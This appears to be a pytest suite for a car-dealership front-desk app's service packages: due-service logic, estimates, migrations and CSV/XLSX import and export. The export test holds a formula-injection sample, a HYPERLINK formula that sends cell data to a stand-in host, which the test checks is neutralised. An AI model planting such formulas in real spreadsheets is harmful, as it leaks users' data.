"""Service packages (issue 19, item 1): the catalog item, the due one, one change on the estimate."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from sqlalchemy import func, inspect, select

from frontdesk.model import (
    AuditEvent,
    Job,
    PackageLine,
    PartLine,
    ServicePackage,
    StockLevel,
)
from frontdesk.model.enums import PayType, Role
from frontdesk.services import catalog, catalog_use, checkin, desk, estimate, packages
from frontdesk.services.errors import ConflictError, PermissionDenied, ValidationError
from frontdesk.services.packages import PackageInput

from .factories import customer_and_vehicle, order_through, seed_shop, stored


@pytest.fixture(autouse=True)
def _fresh_use_weights():
    """Use weights are cached per process and database: every test counts its own."""
    catalog_use.invalidate()
    yield
    catalog_use.settle()
    catalog_use.invalidate()


@pytest.fixture
def shop(services, admin, actors):
    shop = seed_shop(services, admin, actors)
    catalog.save_labor_operation(services, admin, catalog.LaborOpInput("MT0102", "更换空气滤清器", "0.30",
                                                                       "Replace engine air filter", "maintenance"))
    air = catalog.save_part(services, admin, catalog.PartInput("18G129566MA", "空气滤清器", "128.00", "Air filter"))
    catalog.adjust_stock(services, admin, air.id, 5, "opening stock")
    return shop


def define(services, admin, code: str, name: str, *, make: str = "大众", models: str = "", km: int | None = None,
           months: int | None = None, lines=(("MT0101", None), ("06L115562B", "1"), ("LQ-0001", "4")),
           first: bool = False) -> int:
    return packages.save_package(services, admin, PackageInput(
        code, name, f"{name} (en)", make, models, km, months, tuple(lines), first)).id


@pytest.fixture
def schedule(services, admin, shop):
    """The maker's schedule of the test car (大众 朗逸): first service, 10 000 km, 20 000 km."""
    return {
        "first": define(services, admin, "VW-5K", "首次保养", models="朗逸", km=5000, months=6, first=True),
        "10k": define(services, admin, "VW-10K", "10000公里保养", models="朗逸,宝来", km=10000, months=12),
        "20k": define(services, admin, "VW-20K", "20000公里保养", km=20000, months=24, lines=(
            ("MT0101", None), ("06L115562B", "1"), ("LQ-0001", "4"), ("MT0102", "0.5"), ("18G129566MA", "1"))),
    }


def car(services, actors, sale_date=dt.date(2026, 1, 1)) -> int:
    return customer_and_vehicle(services, actors[Role.ADVISOR], sale_date=sale_date)[1]


def events(services) -> list[AuditEvent]:
    with services.db.reader() as s:
        return list(s.scalars(select(AuditEvent).order_by(AuditEvent.id)))


# The model and its migration ---------------------------------------------------------------------


def test_the_migrated_schema_holds_packages_and_the_jobs_package(database):
    insp = inspect(database.engine)
    assert {"service_package", "package_line"} <= set(insp.get_table_names())
    job_fks = {fk["referred_table"] for fk in insp.get_foreign_keys("job") if fk["constrained_columns"] == ["package_id"]}
    assert job_fks == {"service_package"}
    assert {c["name"]: c["nullable"] for c in insp.get_columns("job")}["package_id"] is True


def test_migration_0011_goes_down_and_up_again_on_sqlite(tmp_path):
    from alembic import command

    from frontdesk import migrate
    from frontdesk.db import Database

    db = Database(f"sqlite:///{tmp_path / 'down.db'}")
    migrate.upgrade(db, "0011")
    cfg = migrate.alembic_config(db)
    with db.engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.downgrade(cfg, "0010")
    insp = inspect(db.engine)
    assert "service_package" not in insp.get_table_names()
    assert "package_id" not in {c["name"] for c in insp.get_columns("job")}
    with db.engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA integrity_check").scalar() == "ok"
        assert conn.exec_driver_sql("PRAGMA foreign_key_check").all() == []
    migrate.upgrade(db, "0011")
    assert "package_id" in {c["name"] for c in inspect(db.engine).get_columns("job")}
    db.dispose()


def test_a_package_is_saved_with_its_lines_in_order(services, admin, schedule):
    hit = packages.package(services, schedule["20k"])
    assert (hit.code, hit.make, hit.models, hit.interval_km, hit.interval_months) == ("VW-20K", "大众", "", 20000, 24)
    assert [(v.kind, v.code, v.qty, v.unit) for v in hit.lines] == [
        ("labour", "MT0101", Decimal("1.00"), "h"), ("part", "06L115562B", Decimal("1.00"), "pc"),
        ("part", "LQ-0001", Decimal("4.00"), "L"), ("labour", "MT0102", Decimal("0.50"), "h"),
        ("part", "18G129566MA", Decimal("1.00"), "pc")]
    rate = services.settings.labor_rate("customer")
    assert hit.price == (Decimal("1.5") * rate + Decimal("58.00") + 4 * Decimal("98.00") + Decimal("128.00"))
    with services.db.reader() as s:
        assert s.scalar(select(ServicePackage.initials).where(ServicePackage.id == hit.id)) == "glby"  # 公里保养: the digits are typed as the code


def test_a_package_needs_labour_and_known_codes_and_a_new_code(services, admin, schedule):
    with pytest.raises(ValidationError) as no_labour:
        define(services, admin, "ONLY-PARTS", "只有配件", lines=(("LQ-0001", "4"),))
    assert no_labour.value.field == "lines"
    with pytest.raises(ValidationError) as unknown:
        define(services, admin, "BAD", "不存在", lines=(("MT0101", None), ("NOPE-1", "1")))
    assert "NOPE-1" in unknown.value.message
    with pytest.raises(ValidationError) as taken:
        define(services, admin, "vw-10k", "重复")
    assert taken.value.field == "code"


def test_save_replaces_the_lines_and_deactivate_hides_it_from_the_desk(services, admin, actors, schedule):
    pid = schedule["10k"]
    packages.save_package(services, admin, PackageInput(
        "VW-10K", "10000公里保养", models="朗逸", make="大众", interval_km=10000,
        lines=(("MT0101", "0.8"), ("LQ-0001", "4.5"))), package_id=pid)
    hit = packages.package(services, pid)
    assert [(v.code, v.qty) for v in hit.lines] == [("MT0101", Decimal("0.80")), ("LQ-0001", Decimal("4.50"))]
    packages.save_package(services, admin, PackageInput(  # the form names each line's kind (and hours as text)
        "VW-10K", "10000公里保养", make="大众", interval_km="10000",  # type: ignore[arg-type]
        lines=(("labour", "MT0101", Decimal("0.80")), ("part", "LQ-0001", Decimal("4.5")))), package_id=pid)
    assert packages.package(services, pid).lines == hit.lines
    with pytest.raises(ValidationError):
        packages.save_package(services, admin, PackageInput(
            "VW-10K", "x", lines=(("part", "MT0101", None),)), package_id=pid)
    assert hit.interval_months is None
    with services.db.reader() as s:
        assert s.scalar(select(func.count()).select_from(PackageLine).where(PackageLine.package_id == pid)) == 2
    advisor = actors[Role.ADVISOR]
    assert "VW-10K" in [h.code for h in packages.find_packages(services, advisor, "VW")]
    packages.set_package_active(services, admin, pid, False)
    assert "VW-10K" not in [h.code for h in packages.find_packages(services, advisor, "VW")]
    assert packages.package(services, pid).active is False
    with pytest.raises(PermissionDenied):
        packages.set_package_active(services, advisor, pid, True)


# Finding packages ---------------------------------------------------------------------------------


def test_packages_that_fit_the_car_come_first_then_the_store_s_use(services, admin, actors, shop):
    advisor = actors[Role.ADVISOR]
    vehicle = car(services, actors)
    define(services, admin, "A-ALL", "常规保养A", make="")
    define(services, admin, "B-ALL", "常规保养B", make="")
    define(services, admin, "T-10K", "丰田保养", make="丰田")
    define(services, admin, "V-ALL", "大众保养")
    define(services, admin, "V-LAV", "朗逸保养", models="朗逸")
    codes = [h.code for h in packages.find_packages(services, advisor, "", vehicle_id=vehicle)]
    assert codes == ["V-LAV", "V-ALL", "A-ALL", "B-ALL", "T-10K"]
    assert [h.code for h in packages.find_packages(services, advisor, "by", vehicle_id=vehicle)] == codes
    # The store does B's service: B comes before A (both for every make).
    other = customer_and_vehicle(services, advisor, plate="粤A54321", vin="LSVAU033812345679")[1]
    order = checkin.check_in(services, advisor, checkin.CheckInInput(vehicle_id=other, odometer_km=1000, fuel_eighths=4, concerns="保养"))
    b_id = next(h.id for h in packages.find_packages(services, advisor, "B-ALL"))
    packages.add_package(services, advisor, order.id, b_id)
    catalog_use.invalidate()
    codes = [h.code for h in packages.find_packages(services, advisor, "", vehicle_id=vehicle)]
    assert codes == ["V-LAV", "V-ALL", "B-ALL", "A-ALL", "T-10K"]
    assert [h.code for h in packages.find_packages(services, advisor, "常规", vehicle_id=vehicle)] == ["B-ALL", "A-ALL"]
    assert [h.code for h in packages.find_packages(services, advisor, "t-1")] == ["T-10K"]


# Which one is due -------------------------------------------------------------------------------


def test_a_car_never_serviced_is_due_its_first_service_then_the_largest_interval(services, actors, schedule):
    advisor = actors[Role.ADVISOR]
    vehicle = car(services, actors, sale_date=dt.date(2026, 9, 1))
    assert packages.due_package(services, advisor, vehicle, 3000) is None
    first = packages.due_package(services, advisor, vehicle, 4800)
    assert first is not None and first.package.code == "VW-5K"
    assert first.reason == "None on record: 4 800 km since new"
    assert packages.due_package(services, advisor, vehicle, 9600).package.code == "VW-10K"
    due = packages.due_package(services, advisor, vehicle, 20000)
    assert due.package.code == "VW-20K"  # the 20 000 km service rather than the 10 000 km one it includes
    assert due.reason == "None on record: 20 000 km since new"


def test_a_car_never_serviced_for_a_year_is_due_by_months(services, actors, schedule):
    vehicle = car(services, actors, sale_date=dt.date(2025, 10, 1))  # 13 months before the clock's day
    due = packages.due_package(services, actors[Role.ADVISOR], vehicle, 3000)
    assert (due.package.code, due.reason) == ("VW-10K", "None on record: 13 months since the sale")


def test_just_serviced_nothing_is_due_later_by_km_and_by_months(services, actors, shop, schedule):
    advisor = actors[Role.ADVISOR]
    vehicle = car(services, actors)
    order_through(services, actors, shop, vehicle, stop="delivered")  # an oil change (MT0101) at 15 230 km
    assert packages.due_package(services, advisor, vehicle, 15300) is None  # the first service is past, too
    due = packages.due_package(services, advisor, vehicle, 24500)
    assert due.package.code == "VW-20K"  # no air filter on record: the 20 000 km service
    packages.set_package_active(services, actors[Role.MANAGER], schedule["20k"], False)
    due = packages.due_package(services, advisor, vehicle, 24500)
    assert (due.package.code, due.reason) == ("VW-10K", "Last service at 15 230 km, 9 270 km since")
    months = packages.due_package(services, advisor, vehicle, 16000, on=dt.date(2027, 11, 30))
    assert (months.package.code, months.reason) == ("VW-10K", "Last service on 2026-11-24, 12 months ago")
    assert packages.due_package(services, advisor, vehicle, 16000, on=dt.date(2027, 11, 20)) is None


def test_the_package_added_on_this_visit_is_no_longer_due(services, actors, schedule):
    advisor = actors[Role.ADVISOR]
    vehicle = car(services, actors)
    order = checkin.check_in(services, advisor, checkin.CheckInInput(vehicle_id=vehicle, odometer_km=20100, fuel_eighths=4, concerns="保养"))
    due = packages.due_package(services, advisor, vehicle, 20100)
    assert due.package.code == "VW-20K"
    packages.add_package(services, advisor, order.id, due.package.id)
    assert packages.due_package(services, advisor, vehicle, 20100) is None


def test_a_package_for_another_model_or_make_is_never_due(services, admin, actors, shop):
    vehicle = car(services, actors)
    define(services, admin, "VW-TIG", "途观L保养", models="途观L", km=10000)
    define(services, admin, "T-10K", "丰田保养", make="丰田", km=10000)
    assert packages.due_package(services, actors[Role.ADVISOR], vehicle, 30000) is None


# Adding one to the estimate ---------------------------------------------------------------------


def test_add_package_adds_its_jobs_and_parts_reserved_as_one_change(services, actors, shop, schedule):
    advisor = actors[Role.ADVISOR]
    vehicle = car(services, actors)
    order = checkin.check_in(services, advisor, checkin.CheckInInput(vehicle_id=vehicle, odometer_km=20100, fuel_eighths=4, concerns="保养"))
    before = len(events(services))
    ref = packages.add_package(services, advisor, order.id, schedule["20k"], expected_version=order.version)
    new = events(services)[before:]
    assert [(e.action, e.entity) for e in new] == [("estimate.add_package", "service_package")]
    assert ref.description == "更换机油机滤"
    view = desk.order_view(services, order.id)
    assert [(ln.kind, ln.code, ln.quantity) for ln in view.lines] == [
        ("labor", "MT0101", Decimal("1.00")), ("part", "06L115562B", Decimal("1.00")),
        ("part", "LQ-0001", Decimal("4.00")), ("labor", "MT0102", Decimal("0.50")),
        ("part", "18G129566MA", Decimal("1.00"))]
    assert all(ln.pay_type == "customer" and not ln.short for ln in view.lines)
    assert view.totals.gross == packages.package(services, schedule["20k"]).price
    with services.db.reader() as s:
        jobs = s.scalars(select(Job).where(Job.order_id == order.id).order_by(Job.seq)).all()
        assert [j.package_id for j in jobs] == [schedule["20k"]] * 2
        assert [j.rate for j in jobs] == [services.settings.labor_rate("customer")] * 2
        parts = s.scalars(select(PartLine).where(PartLine.order_id == order.id).order_by(PartLine.id)).all()
        assert [p.job_id for p in parts] == [jobs[0].id, jobs[0].id, jobs[1].id]
        assert [p.reserved_qty for p in parts] == [Decimal(1), Decimal(4), Decimal(1)]
        reserved = dict(s.execute(select(StockLevel.part_id, StockLevel.reserved)).all())
    assert reserved[shop.engine_oil] == Decimal(4) and reserved[shop.oil_filter] == Decimal(1)
    # Each line stays editable on its own.
    estimate.update_part(services, advisor, order.id, parts[1].id, qty="4.5")
    assert desk.order_view(services, order.id).lines[2].quantity == Decimal("4.50")


def test_add_package_checks_the_version_the_role_and_the_order(services, actors, schedule):
    advisor = actors[Role.ADVISOR]
    vehicle = car(services, actors)
    order = checkin.check_in(services, advisor, checkin.CheckInInput(vehicle_id=vehicle, odometer_km=9800, fuel_eighths=4, concerns="保养"))
    estimate.set_terms(services, advisor, order.id, wash=True)
    with pytest.raises(ConflictError):
        packages.add_package(services, advisor, order.id, schedule["10k"], expected_version=order.version)
    with pytest.raises(PermissionDenied):
        packages.add_package(services, actors[Role.CASHIER], order.id, schedule["10k"])
    with services.db.reader() as s:
        assert s.scalar(select(func.count()).select_from(Job).where(Job.order_id == order.id)) == 0
    packages.set_package_active(services, actors[Role.MANAGER], schedule["10k"], False)
    with pytest.raises(ValidationError):
        packages.add_package(services, advisor, order.id, schedule["10k"])


def test_the_first_service_is_paid_by_the_maker_unless_told(services, actors, schedule):
    advisor = actors[Role.ADVISOR]
    vehicle = car(services, actors)
    order = checkin.check_in(services, advisor, checkin.CheckInInput(vehicle_id=vehicle, odometer_km=4900, fuel_eighths=4, concerns="保养"))
    packages.add_package(services, advisor, order.id, schedule["first"])
    assert {ln.pay_type for ln in desk.order_view(services, order.id).lines} == {PayType.FIRST_SERVICE.value}
    packages.add_package(services, advisor, order.id, schedule["10k"], pay_type="warranty")
    assert {ln.pay_type for ln in desk.order_view(services, order.id).lines[3:]} == {"warranty"}
    assert stored(services, Job, desk.order_view(services, order.id).lines[3].id).package_id == schedule["10k"]


# Import and export ------------------------------------------------------------------------------

HEADER = ["package_code", "name", "name_en", "make", "models", "interval_km", "interval_months", "kind", "item_code", "qty"]
ZH_HEADER = ["套餐代码", "套餐名称", "英文名称", "品牌", "适用车型", "保养里程(km)", "保养月数", "类型", "项目代码", "数量"]
ROWS = [
    ["vw-10k", "10000公里保养", "10,000 km service", "大众", "朗逸,宝来", "10000", "12", "labour", "MT0101", ""],
    ["vw-10k", "", "", "", "", "", "", "part", "06L115562B", "1"],
    ["vw-10k", "10000公里保养", "", "", "", "", "", "part", "LQ-0001", "4"],
    ["VW-20K", "20000公里保养", "", "大众", "", "20000", "24", "工时", "MT0101", ""],
    ["VW-20K", "", "", "", "", "", "", "工时", "MT0102", "0.5"],
    ["VW-20K", "", "", "", "", "", "", "配件", "18G129566MA", "1"],
]


def write_csv(path, header, rows, encoding="utf-8-sig"):
    import csv

    with open(path, "w", encoding=encoding, newline="") as fh:
        out = csv.writer(fh)
        out.writerow(header)
        out.writerows(rows)
    return path


def package_table(services):
    return [(h.code, h.name, h.make, h.models, h.interval_km, h.interval_months,
             tuple((v.kind, v.code, v.qty) for v in h.lines)) for h in packages.all_packages(services)]


def count_events(services, action):
    return sum(1 for e in events(services) if e.action == action)


def test_import_packages_dry_run_then_commit_then_again_changes_nothing(services, admin, shop, tmp_path):
    from frontdesk.services import package_files

    path = write_csv(tmp_path / "schedule.csv", ZH_HEADER, ROWS, encoding="gbk")
    dry = package_files.dry_run(services, admin, path)
    assert dry.ok and (dry.rows, [k for _r, k in dry.added], dry.changed, dry.unchanged) == (6, ["VW-10K", "VW-20K"], (), 0)
    assert packages.all_packages(services) == []  # the dry run wrote nothing
    done = package_files.import_packages(services, admin, path)
    assert done.committed and len(done.added) == 2
    assert package_table(services) == [
        ("VW-10K", "10000公里保养", "大众", "朗逸,宝来", 10000, 12,
         (("labour", "MT0101", Decimal("1.00")), ("part", "06L115562B", Decimal("1.00")), ("part", "LQ-0001", Decimal("4.00")))),
        ("VW-20K", "20000公里保养", "大众", "", 20000, 24,
         (("labour", "MT0101", Decimal("1.00")), ("labour", "MT0102", Decimal("0.50")),
          ("part", "18G129566MA", Decimal("1.00")))),
    ]
    assert count_events(services, "catalog.import") == 1
    again = package_files.import_packages(services, admin, path)
    assert (again.added, again.changed, again.unchanged) == ((), (), 2)
    # A changed quantity is a changed package: its lines are replaced.
    rows = [list(r) for r in ROWS]
    rows[2][9] = "4.5"
    changed = package_files.import_packages(services, admin, write_csv(tmp_path / "more.csv", HEADER, rows))
    assert [(c.key, c.fields) for c in changed.changed] == [("VW-10K", ("lines",))] and changed.unchanged == 1
    with services.db.reader() as s:
        assert s.scalar(select(func.count()).select_from(PackageLine)) == 6


def test_a_bad_row_is_listed_with_its_reason_and_nothing_is_written(services, admin, actors, shop, tmp_path):
    from frontdesk.services import imports, package_files

    rows = [list(r) for r in ROWS]
    rows[1][8] = "NO-SUCH-PART"
    rows[4][7] = "gadget"
    rows[3][5] = "20 km"
    rows.append(["ONLY-OIL", "只换机油", "", "", "", "5000", "", "part", "LQ-0001", "4"])
    rows.append(["vw-10k", "另一个名字", "", "", "", "", "", "part", "LQ-0001", "1"])
    path = write_csv(tmp_path / "bad.csv", HEADER, rows)
    report = package_files.dry_run(services, admin, path)
    assert not report.ok
    reasons = {r.row: r.reason for r in report.rejected}
    assert reasons[3] == "No part NO-SUCH-PART."
    assert "Interval km" in reasons[5]
    assert reasons[6] == "Line kind: write labour or part."
    assert reasons[8] == "Package ONLY-OIL has no labour line."
    assert reasons[9] == "Package name differs from row 2 of the same package."
    before = len(events(services))
    with pytest.raises(imports.ImportRejected) as refused:
        package_files.import_packages(services, admin, path)
    assert len(refused.value.report.rejected) == 5
    assert packages.all_packages(services) == [] and len(events(services)) == before
    with pytest.raises(PermissionDenied):
        package_files.dry_run(services, actors[Role.ADVISOR], write_csv(tmp_path / "good.csv", HEADER, ROWS))


def test_export_round_trips_through_the_import_with_formula_cells_neutralised(services, admin, shop, tmp_path):
    from frontdesk.services import package_files

    evil = '=HYPERLINK("http://x/?d="&B2,"张三")'
    define(services, admin, "@SUM", evil, models="朗逸", km=10000, months=12)
    define(services, admin, "VW-20K", "20000公里保养", km=20000, lines=(("MT0101", "1.2"), ("LQ-0001", "4")), first=True)
    before = package_table(services)
    csv_out = package_files.export_packages(services, admin, tmp_path / "packages.csv")
    assert csv_out.rows == 5
    text = (tmp_path / "packages.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM" in text
    xlsx_out = package_files.export_packages(services, admin, tmp_path / "packages.xlsx")
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "packages.xlsx").worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    assert xlsx_out.rows == 5
    for exported in (tmp_path / "packages.csv", tmp_path / "packages.xlsx"):
        report = package_files.import_packages(services, admin, exported)
        assert (report.added, report.changed, report.unchanged) == ((), (), 2), exported
    assert package_table(services) == before
    # Into an empty store: the same packages again.
    with services.db.session() as s, s.begin():
        s.query(PackageLine).delete()
        s.query(ServicePackage).delete()
    assert len(package_files.import_packages(services, admin, tmp_path / "packages.xlsx").added) == 2
    assert package_table(services) == before
    assert [h.first_service for h in packages.all_packages(services)] == [False, True]


def test_the_command_line_imports_and_exports_packages(services, admin, shop, tmp_path, capsys):
    from frontdesk.cli import main

    url = services.db.engine.url.render_as_string(hide_password=False)
    path = write_csv(tmp_path / "schedule.csv", HEADER, ROWS)
    assert main(["--db", url, "--lang", "en", "import", "packages", str(path), "--dry-run"]) == 0
    assert "6 rows: 2 to add, 0 to change, 0 unchanged, 0 rejected." in capsys.readouterr().out
    assert packages.all_packages(services) == []
    assert main(["--db", url, "--lang", "en", "import", "packages", str(path)]) == 0
    assert len(packages.all_packages(services)) == 2
    bad = write_csv(tmp_path / "bad.csv", HEADER, [["X-1", "x", "", "", "", "", "", "part", "LQ-0001", "1"]])
    assert main(["--db", url, "--lang", "en", "import", "packages", str(bad)]) == 1
    captured = capsys.readouterr()
    assert "row 2  X-1  Package X-1 has no labour line." in captured.out and "Nothing was imported." in captured.err
    out = tmp_path / "out.xlsx"
    assert main(["--db", url, "--lang", "en", "export", "packages", "--out", str(out)]) == 0
    assert "6 rows written to" in capsys.readouterr().out and out.exists()


# The demo's maker's schedule ------------------------------------------------------------------


def test_the_demo_schedule_names_only_the_demo_catalog():
    from frontdesk.services.demo_sources import (
        VEHICLE_MODELS,
        load_labor_operations,
        load_parts,
    )
    from frontdesk.services.package_schedule import demo_packages

    ops = {r.code for r in load_labor_operations()}
    parts = {r.number for r in load_parts()}
    schedule = demo_packages()
    assert len({p.code for p in schedule}) == len(schedule) and all(len(p.code) <= 20 for p in schedule)
    for p in schedule:
        assert {code for code, _q in p.lines} <= ops | parts, p.code
        assert any(code in ops for code, _q in p.lines), p.code
    vw = {m.model for m in VEHICLE_MODELS if m.make == "大众"}
    covered = {m for p in schedule for m in p.models.split(",")}
    assert covered == vw


def test_the_demo_schedule_saves_and_proposes_by_engine(services, admin, actors):
    from frontdesk.services.demo_sources import load_labor_operations, load_parts
    from frontdesk.services.package_schedule import demo_packages

    schedule = demo_packages()
    wanted = {code for p in schedule for code, _q in p.lines}
    for r in load_labor_operations():
        if r.code in wanted:
            catalog.save_labor_operation(services, admin, catalog.LaborOpInput(r.code, r.name_zh, r.std_hours, r.name_en))
    for r in load_parts():
        if r.number in wanted:
            catalog.save_part(services, admin, catalog.PartInput(r.number, r.name_zh, r.price, r.name_en, unit=r.unit))
    for p in schedule:
        packages.save_package(services, admin, p)
    advisor = actors[Role.ADVISOR]
    customer = checkin.save_customer(services, advisor, checkin.CustomerInput("李强", "139 0013 9000"))
    magotan = checkin.save_vehicle(services, advisor, customer.id, checkin.VehicleInput(
        plate="粤A88888", vin="LFV3A23C0K3000001", make="大众", model="迈腾", colour="深黑",
        sale_date=dt.date(2023, 1, 10), confirm_vin_check_digit=True)).id
    due = packages.due_package(services, advisor, magotan, 39600)
    assert due.package.code == "VW-MAG-40K"
    oil = next(v for v in due.package.lines if v.code == "LQ-0004")
    assert oil.qty == Decimal("5.70")
    lavida = customer_and_vehicle(services, advisor, sale_date=dt.date(2026, 6, 1))[1]
    first = packages.due_package(services, advisor, lavida, 4700)
    assert first.package.code == "VW-LAV-5K" and first.package.first_service
    assert next(h.code for h in packages.find_packages(services, advisor, "10000", vehicle_id=lavida)) == "VW-LAV-10K"
